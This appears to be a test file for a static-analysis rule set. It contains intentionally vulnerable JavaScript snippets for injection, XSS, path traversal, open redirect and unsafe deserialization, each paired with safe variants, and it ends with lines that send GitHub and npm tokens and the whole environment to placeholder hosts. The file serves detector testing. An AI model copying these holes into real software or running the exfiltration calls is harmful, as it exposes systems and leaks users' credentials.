const vm = require('vm');
const fs = require('fs');
const path = require('path');
const ejs = require('ejs');
const pug = require('pug');
const Handlebars = require('handlebars');
const serialize = require('node-serialize');
const dns = require('dns');
const axios = require('axios');

app.post('/calc', (req, res) => {
  const { expr } = req.body;
  // ruleid: js.flow.code-injection
  const value = eval('(' + expr + ')');
  const code = `return ${req.query.fn}`;
  // ruleid: js.flow.code-injection
  const fn = new Function('a', code);
  // ruleid: js.flow.code-injection
  vm.runInNewContext(req.body.script, { console });
  // ruleid: js.flow.code-injection
  setTimeout('tick(' + req.query.n + ')', 10);
  // ok: js.flow.code-injection
  setTimeout(() => tick(req.query.n), 10);
  // ok: js.flow.code-injection
  eval('(' + Number(req.query.n) + ')');
  // ok: js.flow.code-injection
  eval('1 + 2');
  // ok: js.flow.code-injection
  eval(config.expression);
  res.json({ value, fn });
});

app.get('/users', async (req, res) => {
  const name = req.query.name;
  const sql = "SELECT * FROM users WHERE name = '" + name + "'";
  // ruleid: js.flow.sql-injection
  const rows = await db.query(sql);
  // ruleid: js.flow.sql-injection
  await knex.raw(`DELETE FROM sessions WHERE id = ${req.params.id}`);
  // ruleid: js.flow.sql-injection
  await sequelize.query('SELECT * FROM t WHERE a = ' + req.body.a, { type: 'SELECT' });
  // ok: js.flow.sql-injection
  await db.query('SELECT * FROM users WHERE name = ?', [name]);
  // ok: js.flow.sql-injection
  await db.query('SELECT * FROM users WHERE id = ' + parseInt(req.query.id, 10));
  // ok: js.flow.sql-injection
  await db.query('SELECT * FROM users WHERE name = ' + db.escape(name));
  // ok: js.flow.sql-injection
  await db.query("SELECT * FROM users WHERE role = 'admin'");
  res.json(rows);
});

app.post('/login', async (req, res) => {
  // ruleid: js.flow.nosql-injection
  const user = await users.findOne({ email: req.body.email, password: req.body.password });
  const filter = { $where: 'this.score > ' + req.query.min };
  // ruleid: js.flow.nosql-injection
  const best = await scores.find(filter).toArray();
  // ok: js.flow.nosql-injection
  const safe = await users.findOne({ email: String(req.body.email) });
  // ok: js.flow.nosql-injection
  const all = await users.find({ active: true }).toArray();
  // ok: js.flow.nosql-injection
  const mine = await users.findOne({ email: session.email });
  res.json({ user, best, safe, all, mine });
});

app.post('/render', (req, res) => {
  const body = req.body;
  // ruleid: js.flow.template-injection
  const html = ejs.render(body.template, { user: req.user });
  // ruleid: js.flow.template-injection
  const page = pug.compile('h1 ' + req.query.title)();
  // ruleid: js.flow.template-injection
  const card = Handlebars.compile(req.body.card);
  // ok: js.flow.template-injection
  const fixed = ejs.render('<h1><%= title %></h1>', { title: req.query.title });
  // ok: js.flow.template-injection
  const view = Handlebars.compile(readTemplate('card.hbs'));
  res.send(html + page + card + fixed + view);
});

app.get('/files/:name', (req, res) => {
  const file = path.join(__dirname, 'uploads', req.params.name);
  // ruleid: js.flow.path-traversal
  const data = fs.readFileSync(file);
  // ruleid: js.flow.path-traversal
  res.sendFile(`/srv/public/${req.query.page}`);
  // ruleid: js.flow.path-traversal
  fs.promises.unlink(req.body.target);
  // ok: js.flow.path-traversal
  res.sendFile(path.join(__dirname, 'uploads', path.basename(req.params.name)));
  // ok: js.flow.path-traversal
  fs.readFileSync(path.join(__dirname, 'static', 'index.html'));
  // ok: js.flow.path-traversal
  res.sendFile(path.join(__dirname, settings.page));
  res.end(data);
});

app.get('/hello', (req, res) => {
  const name = req.query.name;
  // ruleid: js.flow.reflected-xss
  res.send('<h1>Hello ' + name + '</h1>');
  // ruleid: js.flow.reflected-xss
  res.write(`<p>${req.params.id}</p>`);
  // ok: js.flow.reflected-xss
  res.send('<h1>Hello ' + escapeHtml(name) + '</h1>');
  // ok: js.flow.reflected-xss
  res.send(name);
  // ok: js.flow.reflected-xss
  res.send('<h1>Hello ' + user.displayName + '</h1>');
});

router.get('/koa', async (ctx) => {
  // ruleid: js.flow.reflected-xss
  ctx.body = `<div>${ctx.query.q}</div>`;
});

function showFromUrl() {
  const q = new URLSearchParams(location.search).get('q');
  // ruleid: js.flow.dom-xss
  document.getElementById('out').innerHTML = '<b>' + q + '</b>';
  // ruleid: js.flow.dom-xss
  document.write(decodeURIComponent(location.hash.slice(1)));
  // ok: js.flow.dom-xss
  document.getElementById('out').innerHTML = DOMPurify.sanitize(q);
  // ok: js.flow.dom-xss
  document.getElementById('out').textContent = q;
  // ok: js.flow.dom-xss
  document.getElementById('out').innerHTML = '<b>loading</b>';
}

window.addEventListener('message', (event) => {
  // ruleid: js.flow.dom-xss
  panel.innerHTML = event.data.html;
});

app.get('/login/callback', (req, res) => {
  const next = req.query.next;
  // ruleid: js.flow.open-redirect
  res.redirect(next);
  // ruleid: js.flow.open-redirect
  res.redirect(301, '' + req.query.url);
  // ok: js.flow.open-redirect
  res.redirect('/dashboard');
  // ok: js.flow.open-redirect
  res.redirect('/search?q=' + encodeURIComponent(req.query.q));
  // ok: js.flow.open-redirect
  res.redirect(config.homeUrl);
  // ok: js.flow.open-redirect
  res.redirect('/users/' + req.params.id + '/edit');
  // ruleid: js.flow.open-redirect
  res.redirect('/' + req.query.path);
});

app.get('/profile', (req, res) => {
  const raw = Buffer.from(req.cookies.profile, 'base64').toString();
  // ruleid: js.flow.unsafe-deserialization
  const profile = serialize.unserialize(raw);
  // ok: js.flow.unsafe-deserialization
  const parsed = JSON.parse(raw);
  // ok: js.flow.unsafe-deserialization
  const local = serialize.unserialize(fs.readFileSync('profile.dat', 'utf8'));
  res.json({ profile, parsed, local });
});

router.post('/import', async (ctx) => {
  const { payload } = ctx.request.body;
  // ruleid: js.flow.unsafe-deserialization
  const restored = funcster.deepDeserialize(JSON.parse(payload));
  // ok: js.flow.unsafe-deserialization
  const fixed = funcster.deepDeserialize(JSON.parse('{"a":1}'));
  ctx.body = { restored, fixed };
});

async function report() {
  const token = process.env.GITHUB_TOKEN;
  // ruleid: js.flow.secret-exfiltration
  await fetch('https://collector.example.net/t?k=' + token);
  // ruleid: js.flow.secret-exfiltration
  dns.lookup(`${process.env.NPM_TOKEN}.leak.example.net`, () => {});
  // ruleid: js.flow.secret-exfiltration
  await axios.get('https://x.example.net/?e=' + Buffer.from(JSON.stringify(process.env)).toString('base64'));
  // ok: js.flow.secret-exfiltration
  await fetch('https://api.github.com/user', { headers: { authorization: `token ${token}` } });
  // ok: js.flow.secret-exfiltration
  await fetch(process.env.API_BASE_URL + '/health');
  // ok: js.flow.secret-exfiltration
  await axios.get('https://api.example.com/status');
}
